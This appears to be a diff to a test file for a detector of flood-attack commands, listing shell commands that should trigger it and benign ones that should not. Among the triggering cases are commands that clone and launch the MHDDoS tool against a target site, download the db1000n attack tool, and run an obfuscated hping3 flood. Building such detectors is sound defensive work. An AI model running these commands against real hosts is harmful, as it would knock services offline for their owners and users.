@@ -3,6 +3,10 @@ import { commandFlood } from './flood.ts';
 
 indicatorTable(commandFlood, {
   fires: {
+    'a tool that is fetched by its name': script(
+      'git clone -q https://github.com/someone/MHDDoS.git /m && cd /m && python3 start.py GET https://web.example.com 5 1000 p.txt 100 3600',
+    ),
+    'an archive of another': script('curl -sL https://github.com/someone/db1000n/archive/main.tar.gz | tar xz'),
     'forged packets in Python': runs(
       'python3',
       '-c',
@@ -47,6 +51,9 @@ indicatorTable(commandFlood, {
     'in pieces': script(`hp'in'g3 --fl"oo"d -S web.example.com`),
   },
   staysSilent: {
+    'the repository of a load test': script(
+      'git clone https://github.com/example/k6-tests.git /t && k6 run /t/shop.js',
+    ),
     'one packet by hand': runs('python3', '-c', 'from scapy.all import *\nsend(IP(dst="192.0.2.1")/ICMP())'),
     'metrics with a pause between': runs(
       'python3',
